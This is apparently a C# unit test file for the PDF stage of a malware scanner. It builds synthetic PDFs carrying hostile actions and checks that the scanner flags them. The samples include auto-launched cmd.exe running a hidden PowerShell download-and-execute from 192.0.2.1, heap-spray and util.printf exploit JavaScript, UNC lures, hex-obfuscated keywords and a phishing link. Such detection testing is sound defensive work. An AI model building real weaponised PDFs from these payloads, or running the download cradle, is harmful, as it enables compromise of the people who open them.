using System.Text;
using ScanHost.TestKit;

namespace ScanHost.Pipeline.Tests.Stages.Documents;

public sealed class PdfStageTests
{
    private const string Script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

    [Theory]
    [InlineData("pdf.launch_auto", "/OpenAction 5 0 R", "<< /S /Launch /F (cmd.exe) >>")]
    [InlineData("pdf.launch", "", "<< /S /Launch /Win << /F (cmd.exe) >> >>")]
    [InlineData("pdf.js_auto", "/OpenAction 5 0 R", Script)]
    [InlineData("pdf.js_auto", "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", Script)]
    [InlineData("pdf.hex_keyword", "/OpenAction 5 0 R", "<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>")]
    [InlineData("pdf.hex_keyword", "", "<< /S /#4caunch /F (a) >>")]
    [InlineData("pdf.js_exploit", "", "<< /S /JavaScript /JS (unescape\\(\"%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090\"\\)) >>")]
    [InlineData("pdf.js_exploit", "", "<< /S /JavaScript /JS (util.printf\\(\"%45000f\", 1\\)) >>")]
    [InlineData("pdf.uri_danger", "", "<< /S /URI /URI (http://host.invalid/setup.exe) >>")]
    [InlineData("pdf.gotoe_unc", "", "<< /S /GoToE /F (\\\\\\\\192.0.2.1\\\\a) >>")]
    [InlineData("pdf.gotoe_unc", "", "<< /S /SubmitForm /F << /FS /URL /F (http://host.invalid/s) >> >>")]
    public async Task What_a_document_does_is_found(string finding, string catalogue, string action) =>
        (await DocumentScans.FindingsAsync(new PdfBuilder().Catalogue(catalogue).Add(5, action).Build())).Should().Contain(finding);

    [Theory]
    [InlineData("", "<< /Length 1 >>")]
    [InlineData("/OpenAction [3 0 R /Fit]", "<< /S /JavaScript /JS (1) >>")]
    [InlineData("", "<< /S /URI /URI (https://host.invalid/report.pdf) >>")]
    [InlineData("", "<< /S /GoToR /F (other.pdf) >>")]
    [InlineData("", Script)]
    [InlineData("/Names << /EmbeddedFiles << /Names [] >> >>", "<< /A#20B 1 >>")]
    [InlineData("/AcroForm << /Fields [] >>", "<< /S /GoTo /D [3 0 R /Fit] >>")]
    [InlineData("", "<< /S /JavaScript /JS (util.printf\\(\"%.2f\", 1\\)) >>")]
    public async Task A_document_of_an_office_is_not(string catalogue, string action) =>
        (await DocumentScans.FindingsAsync(new PdfBuilder().Catalogue(catalogue).Add(5, action).Build())).Should().BeEmpty();

    [Theory]
    [InlineData("pdf.unc_auto", "/OpenAction 5 0 R", "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) >>", true)]
    [InlineData("pdf.unc_auto", "", "<< /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) >>", false)]
    [InlineData("pdf.unc_auto", "/OpenAction 5 0 R", "<< /S /GoToR /F (chapter2.pdf) >>", false)]
    [InlineData("pdf.unc_auto", "/OpenAction [3 0 R /Fit]", "<< /S /GoToR /F (chapter2.pdf) >>", false)]
    [InlineData("pdf.launch_remote", "/OpenAction 5 0 R", "<< /S /Launch /F (\\\\\\\\192.0.2.1\\\\a.exe) >>", true)]
    [InlineData("pdf.launch_remote", "/OpenAction 5 0 R", "<< /S /Launch /F (calc.exe) >>", false)]
    [InlineData("pdf.launch_remote", "", "<< /S /Launch /F (C:/docs/a.doc) >>", false)]
    [InlineData("pdf.launch_remote", "", "<< /S /URI /URI (https://host.invalid/a.exe) >>", false)]
    public async Task What_reaches_for_another_machine_by_itself_is_found(string finding, string catalogue, string action, bool isFound) =>
        (await DocumentScans.FindingsAsync(new PdfBuilder().Catalogue(catalogue).Add(5, action).Build())).Contains(finding).Should().Be(isFound);

    [Fact]
    public async Task The_command_that_a_document_starts_is_judged()
    {
        var file = new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -c iex\\(irm http://192.0.2.1/a\\)) >> >>").Build();

        (await DocumentScans.FindingsAsync(file)).Should().Contain(["pdf.launch_auto", "ps.iex_download", "ps.hidden"]);
    }

    [Theory]
    [InlineData("setup.exe", true)]
    [InlineData("run.js", true)]
    [InlineData("a.lnk", true)]
    [InlineData("invoice.xml", false)]
    [InlineData("data.csv", false)]
    [InlineData("notes.txt", false)]
    public async Task An_embedded_program_is_found(string name, bool isFound)
    {
        var file = new PdfBuilder().Add(5, $"<< /Type /Filespec /F ({name}) /EF << /F 6 0 R >> >>").Stream(6, "/Type /EmbeddedFile", "some words"u8.ToArray()).Build();

        (await DocumentScans.FindingsAsync(file)).Contains("pdf.embed_exec").Should().Be(isFound);
    }

    [Fact]
    public async Task A_script_that_opens_an_embedded_file_is_found()
    {
        var file = new PdfBuilder().Add(5, "<< /S /JavaScript /JS (this.exportDataObject\\({cName:\"a\", nLaunch:2}\\)) >>").Add(7, "<< /F (a.docm) /EF << /F 6 0 R >> >>").Stream(6, "/Type /EmbeddedFile", "x"u8.ToArray()).Build();

        (await DocumentScans.FindingsAsync(file)).Should().Equal("pdf.embed_auto_js", "pdf.embed_exec");
    }

    [Theory]
    [InlineData("http://192.0.2.5/a", 600, 1, true)]
    [InlineData("https://evil.pages.dev/login", 600, 1, true)]
    [InlineData("https://www.bank.com/", 600, 1, false)]
    [InlineData("https://bit.ly/x", 100, 1, false)]
    [InlineData("https://bit.ly/x", 600, 2, false)]
    public async Task A_lure_of_one_page_is_found(string link, int width, int links, bool isFound)
    {
        var file = new PdfBuilder().Stream(5, $"/Subtype /Image /Width {width} /Height 600 /Filter /DCTDecode", [0xFF, 0xD8]);
        for (var number = 0; number < links; number++)
            file.Add(10 + number, $"<< /S /URI /URI ({link}{number}) >>");

        (await DocumentScans.FindingsAsync(file.Build())).Contains("pdf.lure").Should().Be(isFound);
    }

    [Theory]
    [InlineData(501, true)]
    [InlineData(500, false)]
    [InlineData(100, false)]
    [InlineData(0, false)]
    public async Task Data_behind_the_end_is_found(int length, bool isFound) =>
        (await DocumentScans.FindingsAsync([.. PdfBuilder.Document(), .. Encoding.ASCII.GetBytes(new string('x', length))])).Contains("pdf.tail").Should().Be(isFound);

    [Fact]
    public async Task Macros_hidden_in_a_document_are_found()
    {
        byte[] file = [.. PdfBuilder.Document(), .. "MIME-Version: 1.0\nContent-Type: application/x-mso\n\nQWN0aXZlTWltZQAAAfAEAAAA/////w\n"u8];

        (await DocumentScans.FindingsAsync(file)).Should().Contain("pdf.polyglot");
    }

    [Fact]
    public async Task Links_are_indicators_and_keywords_are_facts()
    {
        var outcome = await DocumentScans.ScanAsync(new PdfBuilder().Add(5, "<< /S /URI /URI (https://host.invalid/x) >>").Build());

        outcome.Indicators.Should().Contain(indicator => indicator.Value == "https://host.invalid/x");
        outcome.Artifacts[0].Facts["pdf-actions"]["keywords"]!["URI"]!.GetValue<int>().Should().Be(2);
    }

    [Theory]
    [InlineData("<< /X ] /S /Launch /F (cmd.exe) >>")]
    [InlineData("<< /X ) /Y } /Z > /S /Launch /F (cmd.exe) >>")]
    public async Task A_bracket_that_closes_nothing_hides_no_action(string action) =>
        (await DocumentScans.FindingsAsync(new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, action).Build())).Should().Contain("pdf.launch_auto");

    [Fact]
    public async Task A_value_that_is_nested_too_deep_hides_no_action_behind_it_and_is_a_gap()
    {
        var outcome = await DocumentScans.ScanAsync(new PdfBuilder().Catalogue("/OpenAction 5 0 R").Add(5, $"<< /X {new string('[', 90)}<< /A (]) /B <5D> >>{new string(']', 90)} /S /Launch /F (cmd.exe) >>").Build());

        outcome.Findings.Select(finding => finding.Id).Should().Contain("pdf.launch_auto");
        outcome.Gaps.Should().Contain(gap => gap.Stage == "pdf-actions").And.Contain(gap => gap.Stage == "pdf");
    }

    [Fact]
    public async Task Of_several_programs_that_a_document_starts_each_is_judged()
    {
        var file = new PdfBuilder().Add(5, "<< /S /Launch /F (readme.txt) >>").Add(6, "<< /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -c iex\\(irm http://192.0.2.1/a\\)) >> >>").Build();

        (await DocumentScans.FindingsAsync(file)).Should().Contain(["pdf.launch", "ps.iex_download"]);
    }

    [Fact]
    public async Task A_link_behind_thousands_of_others_is_judged()
    {
        var file = new PdfBuilder().Add(5, $"[{string.Concat(Enumerable.Range(0, 3000).Select(number => $"<< /S /URI /URI (https://host.invalid/{number}) >>"))}<< /S /URI /URI (http://host.invalid/setup.exe) >>]").Build();

        var outcome = await DocumentScans.ScanAsync(file);

        outcome.Findings.Select(finding => finding.Id).Should().Contain("pdf.uri_danger");
        outcome.Gaps.Should().NotContain(gap => gap.Stage == "pdf-actions");
    }
}
